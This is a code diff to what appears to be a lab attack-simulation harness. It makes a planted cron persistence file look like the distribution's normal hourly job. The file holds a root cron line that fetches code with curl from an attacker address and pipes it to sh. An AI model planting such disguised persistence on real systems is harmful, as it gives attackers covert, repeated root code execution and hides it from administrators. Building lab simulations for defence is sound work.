@@ -21,6 +21,9 @@ import { fileURLToPath } from 'node:url';
 import type { Lab } from './lab.ts';
 import type { LabHostLayout } from './lab-layout.ts';
 
+/** The line the planted cron file copies from the distribution's `0hourly`, to look at home. */
+const HOURLY_JOB = '01 * * * * root run-parts /etc/cron.hourly';
+
 const ATTEMPTS_TOOL = fileURLToPath(new URL('./tools/tcp-attempts.ts', import.meta.url));
 
 export interface AttackOptions {
@@ -113,7 +116,11 @@ export async function runAttack(lab: Lab, options: AttackOptions): Promise<Attac
       const path = '/etc/cron.d/0hourly-update';
       const line = `*/10 * * * * root curl -fsS http://${attacker.ipv4}:${port}/u | sh`;
       await mkdir(join(options.persistenceRoot, 'etc/cron.d'), { recursive: true });
-      await writeFile(join(options.persistenceRoot, path), `SHELL=/bin/sh\n${line}\n`);
+      // Dressed as the distribution's hourly job, with the payload line added to it.
+      await writeFile(
+        join(options.persistenceRoot, path),
+        `SHELL=/bin/sh\n${HOURLY_JOB}\n${line}\n`,
+      );
       persistence = { kind: 'cron', path, line };
     }
 
